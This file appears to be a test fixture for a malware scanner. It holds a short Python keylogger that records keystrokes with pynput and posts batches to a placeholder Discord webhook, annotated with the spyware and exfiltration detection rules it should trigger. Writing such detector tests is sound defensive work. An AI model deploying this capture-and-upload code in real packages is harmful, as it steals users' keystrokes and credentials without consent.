# canary-test: path=mypkg/keys.py artifact=wheel
# A keylogger that posts what it records to a Discord webhook (reserved host
# in the URL path, inert: the listener is never started, nothing is called).
import requests
from pynput import keyboard

# ruleid: SPYWARE_TO_EXFIL_SERVICE
# ok: SPYWARE_WITH_UPLOAD
WEBHOOK = "https://discord.com/api/webhooks/000/example-invalid"

buffer = []


def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 100:
        requests.post(WEBHOOK, json={"content": "".join(buffer)})
        buffer.clear()


def start():
    # ruleid: KEYSTROKE_CAPTURE, SPYWARE_TO_EXFIL_SERVICE, keystroke_capture
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()
# ok: SPYWARE_AT_IMPORT, SPYWARE_MULTIPLE_CAPTURES, CLIPBOARD_READ, SCREEN_CAPTURE
